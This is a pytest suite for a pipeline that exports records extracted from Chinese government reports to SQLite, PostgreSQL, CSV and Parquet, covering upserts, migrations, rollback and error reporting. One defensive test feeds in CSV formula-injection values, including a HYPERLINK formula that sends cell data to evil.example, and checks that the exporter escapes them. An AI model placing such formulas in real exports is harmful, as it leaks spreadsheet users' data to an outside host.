"""govreport export: SQLite and PostgreSQL (the real local server), CSV and Parquet, on a
small fixed output set of real report excerpts (tests/data/batch/outputs)."""
from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest
import sqlalchemy as sa

from pipeline.cli import main
from pipeline.export import db as exportdb
from pipeline.export.db import DatabaseError, ensure_schema, export_outputs, make_engine

FIXED = Path(__file__).resolve().parent / "data" / "batch" / "outputs"
N_RECORDS = sum(len(json.loads(p.read_text(encoding="utf-8"))["records"]) for p in FIXED.glob("*.json"))
N_SECTIONS = sum(len(json.loads(p.read_text(encoding="utf-8"))["sections"]) for p in FIXED.glob("*.json"))

PATENT_QUERY = """
SELECT d.region_name, d.year, r.value, r.unit, r.role, r.direction
FROM records r JOIN documents d ON d.id = r.document_id
WHERE r.type = 'quantity' AND r.metric = '发明专利授权量'
ORDER BY d.region_name, d.year, r.start_offset
"""


@pytest.fixture(params=["sqlite", "postgresql"])
def target(request, tmp_path):
    """(db argument, extra CLI args, engine) for each database."""
    if request.param == "sqlite":
        path = str(tmp_path / "db" / "govreport.sqlite")
        engine = make_engine(path)
        yield path, [], engine
    else:
        url = request.getfixturevalue("pg_url")
        schema = request.getfixturevalue("pg_schema")
        engine = make_engine(url, schema=schema)
        yield url, ["--schema", schema], engine
    engine.dispose()


def count(engine, table: str) -> int:
    with engine.connect() as conn:
        return conn.execute(sa.text(f"SELECT count(*) FROM {table}")).scalar()


def outputs_copy(tmp_path: Path) -> Path:
    dest = tmp_path / "outputs"
    shutil.copytree(FIXED, dest)
    return dest


def test_export_twice_gives_one_row_per_record(target, tmp_path, capsys):
    db, extra, engine = target
    assert main(["export", str(FIXED), "--db", db, *extra]) == 0
    assert "3 documents (3 written, 0 unchanged)" in capsys.readouterr().err
    counts = (count(engine, "documents"), count(engine, "sections"), count(engine, "records"))
    assert counts == (3, N_SECTIONS, N_RECORDS)
    assert main(["export", str(FIXED), "--db", db, *extra]) == 0
    assert "3 documents (0 written, 3 unchanged)" in capsys.readouterr().err
    assert main(["export", str(FIXED), "--db", db, *extra, "--force"]) == 0
    assert (count(engine, "documents"), count(engine, "sections"), count(engine, "records")) == counts


def test_invention_patent_grants_by_region_and_year(target):
    db, extra, engine = target
    assert main(["export", str(FIXED), "--db", db, *extra]) == 0
    with engine.connect() as conn:
        rows = [tuple(r) for r in conn.execute(sa.text(PATENT_QUERY))]
    # Tianhe's 发明专利授权量 and its change; not Suzhou's 有效发明专利授权量 nor Bengbu's
    # 发明专利授权 (other metrics)
    assert rows == [("天河区", 2023, 9438.0, "件", "level", None),
                    ("天河区", 2023, 29.6, "%", "change", "up")]


def test_typed_columns_and_json_lists(target):
    db, extra, engine = target
    assert main(["export", str(FIXED), "--db", db, *extra]) == 0
    t = exportdb.records
    with engine.connect() as conn:
        case = conn.execute(sa.select(t.c.text, t.c.parties, t.c.section_path, t.c.section_id)
                            .where(t.c.type == "case")).one()
        money = conn.execute(sa.select(t.c.value, t.c.unit, t.c.kind, t.c.qualifier)
                             .where(t.c.metric == "知识产权质押融资额")).one()
        agency = conn.execute(sa.select(t.c.canonical).where(t.c.type == "agency")).scalar()
        sec = conn.execute(sa.select(exportdb.sections.c.path, exportdb.sections.c.parent_id)
                           .where(exportdb.sections.c.title == "加强知识产权审判工作")).one()
    assert case.text == "腾讯公司诉珍分夺秒公司侵害商标权及不正当竞争案"
    assert case.parties == ["腾讯公司", "珍分夺秒公司"]
    assert case.section_path == ["知识产权保护", "司法保护", "加强知识产权审判工作"]
    assert tuple(money) == (15500000000.0, "元", "money", "超过")
    assert agency == "天河区人民法院"
    assert sec.path == ["知识产权保护", "司法保护", "加强知识产权审判工作"] and sec.parent_id == "s4"


def _reextract(outdir: Path) -> dict:
    """Change one document as a re-extraction with new rules would: a value corrected,
    a record dropped, one added, its sections renumbered."""
    path = outdir / "tianhe-ip-2023.txt.json"
    obj = json.loads(path.read_text(encoding="utf-8"))
    recs = obj["records"]
    recs[0]["value"] = 19299
    dropped = recs.pop(3)
    text = obj["document"]["text"]
    start = text.index("189.7件")
    added = dict(recs[0], id="q-00000000000000aa", text=text[start:start + 6], start=start,
                 end=start + 6, value=189.7, metric="每万人口发明专利拥有量")
    recs.append(added)
    obj["sections"] = [s for s in obj["sections"] if s["id"] != "s2"]
    for r in recs:
        if r["section_id"] == "s2":
            r["section_id"], r["section_path"] = "s1", ["知识产权创造"]
    path.write_text(json.dumps(obj, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    return {"dropped": dropped["id"], "added": added["id"], "n": len(recs)}


def test_reexported_document_replaces_its_records(target, tmp_path):
    db, extra, engine = target
    outdir = outputs_copy(tmp_path)
    assert main(["export", str(outdir), "--db", db, *extra]) == 0
    change = _reextract(outdir)
    assert main(["export", str(outdir), "--db", db, *extra]) == 0
    t, d = exportdb.records, exportdb.documents
    with engine.connect() as conn:
        doc_id = conn.execute(sa.select(d.c.id).where(d.c.name == "tianhe-ip-2023.txt")).scalar()
        ids = set(conn.execute(sa.select(t.c.id).where(t.c.document_id == doc_id)).scalars())
        first = conn.execute(sa.select(t.c.value).where(t.c.text == "19298件")).scalar()
        secs = set(conn.execute(sa.select(exportdb.sections.c.id)
                                .where(exportdb.sections.c.document_id == doc_id)).scalars())
    assert len(ids) == change["n"] and change["added"] in ids and change["dropped"] not in ids
    assert first == 19299.0 and "s2" not in secs
    assert count(engine, "records") == N_RECORDS            # one dropped, one added
    assert count(engine, "documents") == 3


def test_a_failed_document_export_leaves_the_old_version_whole(target, tmp_path, monkeypatch):
    db, extra, engine = target
    outdir = outputs_copy(tmp_path)
    assert main(["export", str(outdir), "--db", db, *extra]) == 0
    with engine.connect() as conn:
        before = sorted(tuple(r) for r in conn.execute(sa.select(exportdb.records)))
    _reextract(outdir)
    real = exportdb._delete_missing
    calls = []

    def fail_late(conn, table, doc_id, keep):   # after the upserts, before the commit
        calls.append(table.name)
        if table.name == "sections":
            raise sa.exc.OperationalError("DELETE", {}, Exception("connection lost"))
        return real(conn, table, doc_id, keep)

    monkeypatch.setattr(exportdb, "_delete_missing", fail_late)
    st = export_outputs(outdir, engine)
    assert calls == ["records", "sections"] and len(st.errors) == 1
    assert "tianhe-ip-2023.txt.json: database error" in st.errors[0]
    with engine.connect() as conn:
        after = sorted(tuple(r) for r in conn.execute(sa.select(exportdb.records)))
    assert after == before


def test_schema_version_is_recorded_and_a_newer_database_refused(target):
    db, extra, engine = target
    assert ensure_schema(engine) == exportdb.SCHEMA_VERSION
    assert ensure_schema(engine) == exportdb.SCHEMA_VERSION          # second use: no-op
    with engine.begin() as conn:
        assert conn.execute(sa.select(exportdb.schema_version.c.version)).scalars().all() == [exportdb.SCHEMA_VERSION]
        conn.execute(exportdb.schema_version.insert().values(version=99))
    with pytest.raises(DatabaseError, match="newer than this govreport"):
        ensure_schema(engine)


def test_a_migration_runs_once_on_first_use(target, monkeypatch):
    db, extra, engine = target
    ensure_schema(engine)
    steps = []

    def add_note_column(conn):
        steps.append(1)
        conn.execute(sa.text("ALTER TABLE documents ADD COLUMN note TEXT"))

    now = exportdb.SCHEMA_VERSION
    monkeypatch.setattr(exportdb, "SCHEMA_VERSION", now + 1)
    monkeypatch.setitem(exportdb.MIGRATIONS, now, add_note_column)
    assert ensure_schema(engine) == now + 1
    assert ensure_schema(engine) == now + 1
    assert steps == [1]
    with engine.connect() as conn:
        assert "note" in {c["name"] for c in sa.inspect(conn).get_columns("documents")}


def test_a_version_2_database_gets_the_case_number_columns(tmp_path):
    engine = make_engine(str(tmp_path / "old.sqlite"))
    with engine.begin() as conn:                     # the version 2 tables: no case number columns
        exportdb.metadata.create_all(conn)
        for name in ("case_number", "year", "court_code", "case_type", "serial"):
            conn.execute(sa.text(f"ALTER TABLE records DROP COLUMN {name}"))
        conn.execute(exportdb.schema_version.insert().values(version=2))
    assert ensure_schema(engine) == exportdb.SCHEMA_VERSION
    with engine.connect() as conn:
        cols = {c["name"] for c in sa.inspect(conn).get_columns("records")}
    assert {"case_number", "year", "court_code", "case_type", "serial"} <= cols


def test_foreign_tables_are_not_taken_over(tmp_path):
    engine = make_engine(str(tmp_path / "other.sqlite"))
    with engine.begin() as conn:
        conn.execute(sa.text("CREATE TABLE documents (x INTEGER)"))
    with pytest.raises(DatabaseError, match="not a govreport database"):
        ensure_schema(engine)


def test_default_target_is_a_sqlite_file_inside_outdir(tmp_path, monkeypatch):
    # issue 14: the default was ./outputs/govreport.sqlite in whatever folder one stood in
    outdir = outputs_copy(tmp_path)
    cwd = tmp_path / "elsewhere"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    assert main(["export", str(outdir)]) == 0
    assert list(cwd.iterdir()) == []
    engine = make_engine(str(outdir / "govreport.sqlite"))
    assert count(engine, "records") == N_RECORDS
    engine.dispose()
    assert main(["export", str(outdir)]) == 0          # the database is not read as an output


def test_a_broken_output_file_is_reported_and_the_rest_exported(tmp_path, capsys):
    outdir = outputs_copy(tmp_path)
    (outdir / "half-written.txt.json").write_text('{"schema_version": "1.0", "docu', encoding="utf-8")
    (outdir / "_run.json").write_text("{}")              # the manifest is not an output
    db = str(tmp_path / "x.sqlite")
    assert main(["export", str(outdir), "--db", db]) == 1
    err = capsys.readouterr().err
    assert f"govreport: error: {outdir / 'half-written.txt.json'}: not a valid output JSON file" in err
    assert count(make_engine(db), "records") == N_RECORDS


def test_missing_folder_and_unreachable_database_are_one_line_errors(tmp_path, capsys):
    assert main(["export", str(tmp_path / "nope"), "--db", str(tmp_path / "x.sqlite")]) == 1
    assert capsys.readouterr().err.strip() == f"govreport: error: {tmp_path / 'nope'}: no such folder"
    assert main(["export", str(FIXED), "--db", "postgresql://nobody@127.0.0.1:1/none"]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith("govreport: error: postgresql://nobody@127.0.0.1:1/none: ")


def test_csv_export(tmp_path):
    dest = tmp_path / "csv"
    assert main(["export", str(FIXED), "--csv", str(dest)]) == 0
    first = {p.name: p.read_bytes() for p in dest.iterdir()}
    assert sorted(first) == ["documents.csv", "records.csv", "sections.csv"]
    assert first["records.csv"].startswith("\ufeff".encode())    # a BOM: Excel reads UTF-8
    with open(dest / "records.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == N_RECORDS
    grant = next(r for r in rows if r["metric"] == "发明专利授权量" and r["role"] == "level")
    assert (grant["document"], grant["value"], grant["unit"], grant["qualifier"]) == (
        "tianhe-ip-2023.txt", "9438", "件", "")
    assert json.loads(grant["section_path"]) == ["知识产权创造", "专利"]
    with open(dest / "documents.csv", encoding="utf-8-sig", newline="") as f:
        docs = {r["name"]: r for r in csv.DictReader(f)}
    assert docs["gov-work-report-suzhou-2024.txt"]["region_province"] == "江苏省"
    assert main(["export", str(FIXED), "--csv", str(dest)]) == 0
    assert {p.name: p.read_bytes() for p in dest.iterdir()} == first     # no temp files left


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_exported_files_get_the_modes_of_new_files(tmp_path, fmt):
    # issue 14: CSV and Parquet came out 0600 (mkstemp's mode), unreadable to the group
    if fmt == "parquet":
        pytest.importorskip("pyarrow.parquet")
    import os
    umask = os.umask(0o022)
    try:
        assert main(["export", str(FIXED), f"--{fmt}", str(tmp_path / fmt)]) == 0
    finally:
        os.umask(umask)
    modes = {p.name: p.stat().st_mode & 0o777 for p in (tmp_path / fmt).iterdir()}
    assert set(modes.values()) == {0o644}, modes


def test_parquet_export(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    dest = tmp_path / "pq"
    assert main(["export", str(FIXED), "--parquet", str(dest)]) == 0
    records = pq.read_table(dest / "records.parquet")
    assert records.num_rows == N_RECORDS
    assert str(records.schema.field("value").type) == "double"
    assert str(records.schema.field("start_offset").type) == "int64"
    rows = records.to_pylist()
    case = next(r for r in rows if r["type"] == "case")
    assert case["parties"] == ["腾讯公司", "珍分夺秒公司"]
    docs = pq.read_table(dest / "documents.parquet").to_pylist()
    assert sorted((d["region_name"], d["year"]) for d in docs) == [
        ("天河区", 2023), ("苏州市", 2024), ("蚌埠市", 2024)]
    assert pq.read_table(dest / "sections.parquet").num_rows == N_SECTIONS


def test_freshly_extracted_reports_export_one_row_per_record(target, tmp_path):
    from pipeline.batch import run_batch
    db, extra, engine = target
    corpus = Path(__file__).resolve().parent.parent / "corpus"
    outdir = tmp_path / "outputs"
    inputs = [str(corpus / n) for n in ("tianhe-ip-2023.txt", "gov-work-report-changsha-2024.docx",
                                         "other-huaian-hongze-2023.pdf")]
    s = run_batch(inputs, outdir, use_model=False, jobs=0, progress="none")
    assert (s.ok, s.errors) == (3, 0)
    for _ in range(2):
        assert main(["export", str(outdir), "--db", db, *extra]) == 0
        assert count(engine, "records") == s.records
        assert count(engine, "documents") == 3
    with engine.connect() as conn:
        rows = conn.execute(sa.text(
            "SELECT d.region_name, d.year, r.value FROM records r JOIN documents d ON d.id = r.document_id "
            "WHERE r.type = 'quantity' AND r.text = '9438件'")).all()
    assert [tuple(r) for r in rows] == [("天河区", 2023, 9438.0)]


def _edited_copy(tmp_path: Path, name: str, edit) -> Path:
    """outputs_copy with one more output: the Tianhe output edited by ``edit(obj)``."""
    outdir = tmp_path / "outputs"
    if not outdir.exists():
        outputs_copy(tmp_path)
    obj = json.loads((FIXED / "tianhe-ip-2023.txt.json").read_text(encoding="utf-8"))
    edit(obj)
    (outdir / name).write_text(json.dumps(obj, ensure_ascii=False), encoding="utf-8")
    return outdir


def _huge_value(obj):
    next(r for r in obj["records"] if r["type"] == "quantity")["value"] = 10 ** 400


def _sections_oops(obj):
    obj["sections"] = "oops"


def _offset_as_text(obj):
    obj["records"][3]["start"] = "232"


@pytest.mark.parametrize("to", ["sqlite", "csv", "parquet"])
def test_one_output_that_does_not_fit_the_tables_fails_alone(tmp_path, capsys, to):
    for name, edit in (("huge.txt.json", _huge_value), ("oops.txt.json", _sections_oops),
                       ("typed.txt.json", _offset_as_text)):
        outdir = _edited_copy(tmp_path, name, edit)
    dest = tmp_path / to
    args = {"sqlite": ["--db", str(dest / "x.sqlite")], "csv": ["--csv", str(dest)],
            "parquet": ["--parquet", str(dest)]}[to]
    assert main(["export", str(outdir), *args]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert err[:3] == [
        f"govreport: error: {outdir / 'huge.txt.json'}: not a valid output file (OverflowError: "
        f"int too large to convert to float)",
        f"govreport: error: {outdir / 'oops.txt.json'}: not a valid output file (AttributeError: "
        f"'str' object has no attribute 'get')",
        f"govreport: error: {outdir / 'typed.txt.json'}: not a valid output file (records row 4, "
        f"start_offset: expected an integer, got str)"]
    assert err[3].startswith("export: 3 documents")
    if to == "sqlite":
        assert count(make_engine(str(dest / "x.sqlite")), "records") == N_RECORDS
    elif to == "csv":
        with open(dest / "records.csv", encoding="utf-8-sig", newline="") as f:
            assert len(list(csv.DictReader(f))) == N_RECORDS
    else:
        import pyarrow.parquet as pq
        assert pq.read_table(dest / "records.parquet").num_rows == N_RECORDS


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(tmp_path):
    def hostile(obj):
        qs = [r for r in obj["records"] if r["type"] == "quantity"]
        qs[0]["metric"] = '=HYPERLINK("http://evil.example/?"&A1,"专利授权量")'
        qs[1]["metric"] = "@SUM(1+1)"
        qs[2]["metric"] = "+1"
        qs[3]["metric"] = "\t=1"
        qs[4]["value"] = -2.3
        obj["document"]["title"] = "-2+3"
    outdir = _edited_copy(tmp_path, "hostile.txt.json", hostile)
    dest = tmp_path / "csv"
    assert main(["export", str(outdir), "--csv", str(dest)]) == 0
    with open(dest / "records.csv", encoding="utf-8-sig", newline="") as f:
        rows = [r for r in csv.DictReader(f) if r["document"] == "hostile.txt"]
    qs = [r for r in rows if r["type"] == "quantity"]
    assert [q["metric"] for q in qs[:4]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"专利授权量")', "'@SUM(1+1)", "'+1", "'\t=1"]
    assert qs[4]["value"] == "-2.3"                  # a number is not text: left as it is
    with open(dest / "documents.csv", encoding="utf-8-sig", newline="") as f:
        docs = {r["name"]: r for r in csv.DictReader(f)}
    assert docs["hostile.txt"]["title"] == "'-2+3"
    assert docs["tianhe-ip-2023.txt"]["title"] == docs["tianhe-ip-2023.txt"]["title"].lstrip("'")


def test_export_onto_a_read_only_folder_is_one_line(tmp_path, as_plain_user):
    import subprocess
    import sys
    ROOT = Path(__file__).resolve().parent.parent
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        runs = [subprocess.run(as_plain_user([sys.executable, "-m", "pipeline", *args]), cwd=ROOT,
                               capture_output=True, text=True, timeout=300)
                for args in (["export", str(FIXED), "--csv", str(ro / "csv")],
                             ["export", str(FIXED), "--csv", str(ro)],
                             ["review", str(FIXED / "tianhe-ip-2023.txt.json"), "-o", str(ro / "page.html")])]
    finally:
        ro.chmod(0o755)
    for run in runs:
        assert run.returncode == 1 and "Traceback" not in run.stderr, run.stderr
        lines = run.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].endswith("cannot write: Permission denied"), run.stderr
    assert runs[0].stderr.startswith(f"govreport: error: {ro / 'csv'}: ")
    assert runs[2].stderr.startswith(f"govreport review: error: {ro / 'page.html'}: ")
    assert not list(ro.iterdir())


# --- period and status ------------------------------------------------------------------

REPORTS = Path(__file__).resolve().parent.parent / "outputs"
WORK_REPORTS = ("gov-work-report-changsha-2024.docx.json", "gov-work-report-hangzhou-2024.txt.json",
                "gov-work-report-china-2018.txt.json", "stats-communique-luoyang-2023.txt.json")
GDP_GROWTH = """
SELECT d.region_name, r.value, r.status, r.period_start, r.period_end
FROM records r JOIN documents d ON d.id = r.document_id
WHERE r.type = 'quantity' AND r.role = 'change' AND r.metric LIKE '%生产总值%'
  AND r.period_start = '2023' AND r.period_end = '2023' {status}
ORDER BY d.region_name, r.start_offset
"""


def reports_copy(tmp_path: Path) -> Path:
    dest = tmp_path / "reports"
    dest.mkdir()
    for name in WORK_REPORTS:
        shutil.copy(REPORTS / name, dest / name)
    return dest


def test_2023_actual_gdp_growth_by_region_has_no_targets(target, tmp_path):
    db, extra, engine = target
    assert main(["export", str(reports_copy(tmp_path)), "--db", db, *extra]) == 0
    with engine.connect() as conn:
        actual = [tuple(r) for r in conn.execute(sa.text(GDP_GROWTH.format(status="AND r.status = 'actual'")))]
        every = [tuple(r) for r in conn.execute(sa.text(GDP_GROWTH.format(status="")))]
        plans = conn.execute(sa.text(
            "SELECT count(*) FROM records WHERE metric LIKE '%生产总值%' AND status = 'target'")).scalar()
    regions = {r[0] for r in actual}
    assert {"杭州市", "洛阳市"} <= regions            # Hangzhou's 2023 result, Luoyang's communiqué
    assert all(r[2] == "actual" for r in actual)
    # the same metric is in the database as a 2024 target (杭州 5.5%) and as a 2023
    # estimate (长沙 5%, 预计数): the period and status columns keep them out
    assert plans >= 2
    assert ("长沙市", 5.0, "estimate", "2023", "2023") in every
    assert not any(r[2] == "target" for r in every)


def test_period_columns_hold_years_and_ranges(target, tmp_path):
    db, extra, engine = target
    assert main(["export", str(reports_copy(tmp_path)), "--db", db, *extra]) == 0
    with engine.connect() as conn:
        spans = conn.execute(sa.text(
            "SELECT text, period_start, period_end, status FROM records WHERE period_start <> period_end "
            "ORDER BY period_start")).all()
        untimed = conn.execute(sa.text(
            "SELECT count(*) FROM records WHERE type = 'quantity' AND status IS NULL")).scalar()
        ref = dict(conn.execute(sa.text("SELECT name, reference_year FROM documents")).all())
    assert ("17年", "2007", "2023", "actual") in [tuple(r) for r in spans]      # 连续17年
    assert untimed == 0
    assert ref["gov-work-report-hangzhou-2024.txt"] == 2023
    assert ref["gov-work-report-china-2018.txt"] == 2017


def test_a_version_1_database_is_migrated_and_filled_on_next_export(tmp_path):
    path = tmp_path / "old.sqlite"
    reports = reports_copy(tmp_path)
    engine = make_engine(str(path))
    assert main(["export", str(reports), "--db", str(path)]) == 0
    # take the database back to version 1: no period/status columns, no index (and none of
    # what later versions added: the facts view, the indicator column and table)
    with engine.begin() as conn:
        conn.execute(sa.text("DROP VIEW facts"))
        conn.execute(sa.text("DROP INDEX ix_records_indicator"))
        conn.execute(sa.text("ALTER TABLE records DROP COLUMN indicator"))
        conn.execute(sa.text("DROP TABLE indicators"))
        conn.execute(sa.text("DROP INDEX ix_records_status_period"))
        for col in ("period_start", "period_end", "status"):
            conn.execute(sa.text(f"ALTER TABLE records DROP COLUMN {col}"))
        conn.execute(sa.text("ALTER TABLE documents DROP COLUMN reference_year"))
        conn.execute(sa.text("DELETE FROM schema_version"))
        conn.execute(sa.text("INSERT INTO schema_version (version) VALUES (1)"))
    assert main(["export", str(reports), "--db", str(path)]) == 0
    with engine.connect() as conn:
        versions = conn.execute(sa.text("SELECT version FROM schema_version ORDER BY version")).scalars().all()
        filled = conn.execute(sa.text(
            "SELECT count(*) FROM records WHERE type = 'quantity' AND status IS NOT NULL")).scalar()
        quantities = conn.execute(sa.text("SELECT count(*) FROM records WHERE type = 'quantity'")).scalar()
    engine.dispose()
    assert versions == [1, 2, 3, 4]       # 2 -> 3: case numbers, 3 -> 4: indicator and facts
    assert quantities > 0 and filled == quantities


def test_csv_and_parquet_carry_period_and_status(tmp_path):
    reports = reports_copy(tmp_path)
    assert main(["export", str(reports), "--csv", str(tmp_path / "csv"), "--parquet", str(tmp_path / "pq")]) == 0
    with open(tmp_path / "csv" / "records.csv", encoding="utf-8-sig", newline="") as f:
        rows = [r for r in csv.DictReader(f) if r["type"] == "quantity"]
    assert all(r["status"] in ("actual", "target", "estimate") for r in rows)
    assert {"2024", "2023"} <= {r["period_start"] for r in rows}
    import pyarrow.parquet as pq
    table = pq.read_table(tmp_path / "pq" / "records.parquet", columns=["period_start", "period_end", "status"])
    assert set(table.column("status").to_pylist()) >= {"actual", "target", "estimate"}
    docs = pq.read_table(tmp_path / "pq" / "documents.parquet", columns=["reference_year"])
    assert 2023 in docs.column("reference_year").to_pylist()


def test_facts_view_answers_the_cross_district_gdp_question(target, tmp_path):
    """One query over the facts view of an export of several cities' reports: 2023 GDP
    growth (result or estimate) and the 2024 target, one row per city, no target among the
    results (issue 13's example)."""
    db, extra, engine = target
    reports = reports_copy(tmp_path)
    assert main(["export", str(reports), "--db", db, *extra]) == 0
    query = sa.text("SELECT region, value, status, indicator_name FROM facts "
                    "WHERE indicator = 'gdp' AND role = 'change' AND period = :period "
                    "AND status IN :statuses ORDER BY region").bindparams(
                        sa.bindparam("statuses", expanding=True))
    with engine.connect() as conn:
        results = conn.execute(query, {"period": "2023", "statuses": ["actual", "estimate"]}).all()
        targets = conn.execute(query, {"period": "2024", "statuses": ["target"]}).all()
        catalog = conn.execute(sa.text("SELECT count(*) FROM indicators")).scalar()
    assert {r.region: (r.value, r.status) for r in results} == {
        "杭州市": (5.6, "actual"), "长沙市": (5.0, "estimate"), "洛阳市": (3.5, "actual")}
    assert {r.indicator_name for r in results} == {"地区生产总值"}
    assert {r.region: r.value for r in targets} == {"杭州市": 5.5, "长沙市": 6.0}
    assert catalog > 100


def test_a_version_3_database_gets_the_indicator_column_and_the_facts_view(tmp_path):
    path = tmp_path / "old.sqlite"
    reports = reports_copy(tmp_path)
    engine = make_engine(str(path))
    with engine.begin() as conn:                     # the version 3 tables: no indicator, no view
        exportdb.metadata.create_all(conn)
        conn.execute(sa.text("DROP INDEX ix_records_indicator"))
        conn.execute(sa.text("ALTER TABLE records DROP COLUMN indicator"))
        conn.execute(sa.text("DROP TABLE indicators"))
        conn.execute(exportdb.schema_version.insert().values(version=3))
    assert main(["export", str(reports), "--db", str(path)]) == 0
    with engine.connect() as conn:
        gdp = conn.execute(sa.text("SELECT count(*) FROM facts WHERE indicator = 'gdp'")).scalar()
        versions = conn.execute(sa.text("SELECT version FROM schema_version ORDER BY version")).scalars().all()
    engine.dispose()
    assert versions == [3, 4] and gdp > 5
